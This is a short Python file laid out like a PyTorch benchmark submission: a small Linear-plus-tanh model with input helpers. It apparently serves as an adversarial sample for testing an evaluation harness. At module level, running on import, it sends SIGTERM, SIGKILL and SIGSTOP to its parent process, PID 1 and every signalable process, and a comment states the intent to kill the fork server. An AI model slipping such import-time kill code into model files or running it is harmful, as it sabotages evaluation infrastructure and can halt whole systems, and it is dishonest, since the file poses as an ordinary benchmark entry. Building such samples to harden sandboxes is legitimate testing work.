# kills its parent, the fork server, and its group
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

import os, signal
for pid in (os.getppid(), 1, -1):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, number)
        except OSError:
            pass


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
